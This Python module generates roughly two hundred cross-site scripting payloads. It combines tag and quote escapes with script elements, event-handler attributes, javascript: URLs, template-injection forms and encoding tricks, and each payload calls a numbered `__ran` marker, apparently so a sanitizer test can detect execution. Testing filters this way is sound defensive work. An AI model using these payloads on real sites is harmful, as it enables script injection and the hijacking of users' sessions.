"""About two hundred ways to smuggle a script into a page, made by combining what each needs."""

from itertools import product

CALL = "__ran({n})"

# Ways out of where a text may stand, and the elements and attributes that would then run.
EXITS = (
    "",
    "</select>",
    '">',
    "'>",
    "</p>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "</style>",
    "]]>",
)
ELEMENTS = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT>",
    "<img src=x onerror={call}>",
    '<img src="x" onerror="{call}">',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<math><mtext><script>{call}</script></mtext></math>",
)
ATTRIBUTES = (
    '" onmouseover="{call}',
    "' onmouseover='{call}",
    '" autofocus onfocus="{call}" x="',
    '" style="animation:x" onanimationstart="{call}',
    "` onmouseover=`{call}",
    '" hx-on:load="{call}',
    '" hx-get="javascript:{call}" hx-trigger="load',
    '" data-x="</script><script>{call}</script>',
)
ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    " javascript:{call}",
    "data:text/html,<script>parent.{call}</script>",
    "vbscript:{call}",
)
TRICKS = (
    "{{{{ {call} }}}}",
    "{{% load x %}}{call}",
    "${{{call}}}",
    "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\ufe64script\ufe65{call}\ufe64/script\ufe65",
    "<scr\x0bipt>{call}</scr\x0bipt>",
    "\u2028{call}\u2029",
    "';{call};//",
    '";{call};//',
    "\\';{call};//",
    "*/{call}/*",
    "</script><script>{call}//",
    "<!--<script>{call}</script>-->",
    "<a href=javascript:{call}>x</a>",
    '<form action="javascript:{call}"><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "<base href=javascript:{call}//>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    '<link rel=stylesheet href="javascript:{call}">',
    '<div style="background:url(javascript:{call})">',
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
)


def payloads() -> list[str]:
    """Return every payload, each calling `__ran` with its own number."""
    shapes = [exit_ + element for exit_, element in product(EXITS, ELEMENTS)]
    shapes += [*ATTRIBUTES, *ADDRESSES, *TRICKS]
    shapes += [f"{exit_}{trick}" for exit_, trick in product(('">', "'>"), TRICKS[20:])]
    shapes += [f"javascript:/*{exit_}*/{{call}}" for exit_ in EXITS]
    return [shape.format(call=CALL.format(n=n)) for n, shape in enumerate(shapes)]
